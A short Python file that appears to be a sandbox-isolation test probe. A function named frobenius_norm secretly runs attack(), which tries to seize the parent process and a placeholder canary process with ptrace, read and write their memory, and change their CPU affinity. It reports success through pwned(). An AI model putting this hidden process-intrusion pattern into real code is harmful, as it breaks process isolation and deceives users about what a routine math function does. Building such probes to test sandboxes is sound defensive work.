"""Attaches to its parent and to the canary as a debugger, and reads and writes their memory."""
import ctypes
import os

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(pid):
    if pid <= 0 or pid == os.getpid():
        return ""
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        return f"traces {pid}"
    room = ctypes.create_string_buffer(8)
    here, there = Piece(ctypes.addressof(room), 8), Piece(ctypes.addressof(room), 8)
    for call in (libc.process_vm_readv, libc.process_vm_writev):
        if call(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) >= 0:
            return f"reads the memory of {pid}"
        if ctypes.get_errno() == 14:  # EFAULT: it may, only not there
            return f"may read the memory of {pid}"
    try:
        os.sched_setaffinity(pid, {0})
        return f"moves {pid}"
    except OSError:
        return ""


def frobenius_norm(A):
    found = attack(int("@@CANARY_PID@@")) or attack(os.getppid())
    if found:
        pwned(found)
    return _dtype(A).type(_length(A, 2))
